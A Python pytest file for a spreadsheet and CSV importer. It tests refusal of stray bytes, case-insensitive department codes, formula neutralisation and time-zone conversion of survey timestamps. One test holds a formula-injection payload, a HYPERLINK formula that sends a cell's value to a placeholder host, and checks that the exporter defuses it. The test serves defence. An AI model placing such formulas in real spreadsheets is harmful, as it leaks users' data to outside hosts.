"""Files that are almost right (issue 15): a stray byte, codes differing in case, formulas, spreadsheet injection."""
from __future__ import annotations

import io

import pytest

from tracker.extensions import db
from tracker.importer import service
from tracker.importer.reader import decode, read_csv

from .. import factories
from .helpers import CONTRACTS, DEPARTMENTS, RATINGS, row_counts, small_folder

STRAY = ("code,name,kind,parent_code,head_email\n"
         "IT,Информационные технологии,internal,,\n"
         "LOG,Логистика \xff,internal,,\n")


def _stray_bytes() -> bytes:
    return STRAY.replace("\xff", "@@").encode("utf-8").replace(b"@@", b"\xff")


def test_a_stray_byte_in_utf8_is_refused_naming_line_and_byte_not_read_as_cp1251(app, tmp_path):
    folder = small_folder(tmp_path / "f")
    (folder / "departments.csv").write_bytes(_stray_bytes())
    before = row_counts()
    result = service.import_path(folder)
    assert [str(p) for p in result.problems][:1] == [
        "departments.csv:3: byte 0xFF (character 15 of the line) is not valid UTF-8; the file is neither "
        "UTF-8 nor cp1251 as a whole. Save it as UTF-8 and upload it again"]
    assert row_counts() == before


def test_cp1251_and_utf8_files_still_read():
    text = "code,name\nLOG,Логистика\n"
    assert decode(text.encode("cp1251")) == text
    assert decode(text.encode("utf-8-sig")) == text
    assert read_csv("departments.csv", text.encode("cp1251")).rows == [(2, ["LOG", "Логистика"])]


def test_the_web_upload_names_the_line_of_a_bad_byte(client, auth, app, tmp_path):
    app.config["UPLOAD_FOLDER"] = str(tmp_path / "uploads")
    factories.user("admin@test.local", "admin")
    db.session.commit()
    auth.login("admin@test.local")
    response = client.post("/admin/imports", data={"file": (io.BytesIO(_stray_bytes()), "departments.csv")},
                           content_type="multipart/form-data")
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "<td>departments.csv</td><td>3</td>" in page and "byte 0xFF" in page
    assert "position" not in page


def test_codes_that_differ_only_in_case_are_one_department(app, tmp_path):
    first = small_folder(tmp_path / "a")
    assert service.import_path(first).problems == []
    lower = small_folder(tmp_path / "b", departments=DEPARTMENTS.replace("LOG,Logistics", "log,Logistics"),
                         contracts=CONTRACTS.replace("IT,LOG", "it,log"),
                         ratings=RATINGS.replace("IT,LOG", "It,Log"))
    before = row_counts()
    result = service.import_path(lower)
    assert result.problems == []
    assert result.counts["departments"].added == 0 and result.counts["contracts"].added == 0
    assert row_counts()["departments"] == before["departments"] == 3


def test_a_file_holding_both_spellings_of_a_code_is_refused(app, tmp_path):
    folder = small_folder(tmp_path / "f", departments=DEPARTMENTS + "wh,Warehouse,internal,,\nWH,Store,internal,,\n")
    before = row_counts()
    result = service.import_path(folder)
    assert "departments.csv:6: code 'WH': the same code as 'wh' on line 5 (codes are matched without regard to " \
           "case); keep one spelling" in [str(p) for p in result.problems]
    assert row_counts() == before


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝", "＋", "－", "＠"])
def test_every_leading_formula_character_is_neutralised(start):
    from tracker.importer.export import cell, neutralise

    text = start + "HYPERLINK(\"http://x.example/\"&A1)"
    assert neutralise(text) == "'" + text and cell(text) == "'" + text


@pytest.mark.parametrize("number", ["-5", "+3.5", "-0.25", "12"])
def test_genuine_numbers_stay_numbers(number, app):
    from openpyxl import load_workbook

    from tracker.importer.export import neutralise, xlsx_bytes

    assert neutralise(number) == number
    book = load_workbook(io.BytesIO(xlsx_bytes({"s": [["a", "b"], [float(number), "=1+1"]]})))
    first, second = book["s"]["A2"], book["s"]["B2"]
    assert first.data_type == "n" and first.value == float(number)
    assert second.data_type == "s" and second.value == "=1+1"


def test_survey_timestamps_with_an_offset_are_converted_to_the_organization_time_zone(app):
    from zoneinfo import ZoneInfo

    from tracker.importer.reader import read_csv
    from tracker.importer.survey import parse_timestamp, survey_set

    # 22:30 UTC on 30 September is 01:30 on 1 October in Moscow: the fourth quarter there.
    assert parse_timestamp("2026-09-30T22:30:00Z", tz=ZoneInfo("Europe/Moscow")).isoformat() == "2026-10-01T01:30:00"
    assert parse_timestamp("2026-10-01 01:30:00+03:00", tz=ZoneInfo("UTC")).isoformat() == "2026-09-30T22:30:00"
    assert parse_timestamp("2026-09-30 22:30:00").isoformat() == "2026-09-30T22:30:00"  # no offset: wall time
    text = "When,Score\n2026-09-30T22:30:00Z,9\n2026-09-30T20:00:00Z,9\n"
    mapping = {"timestamp_column": "When", "period_by": "quarter", "recommend_column": "Score", "supplier": "IT",
               "customer": "LOG", "service": "IT support"}
    from tracker.models import Setting

    # The organization's time zone is the setting "timezone" (rotation settings edit it).
    db.session.add(Setting(key="timezone", value="UTC"))
    db.session.commit()
    assert [r.period for r in survey_set(read_csv("s.csv", text.encode()), mapping).ratings] == [
        "2026-Q3", "2026-Q3"]
    db.session.get(Setting, "timezone").value = "Europe/Moscow"
    db.session.commit()
    assert [r.period for r in survey_set(read_csv("s.csv", text.encode()), mapping).ratings] == [
        "2026-Q4", "2026-Q3"]
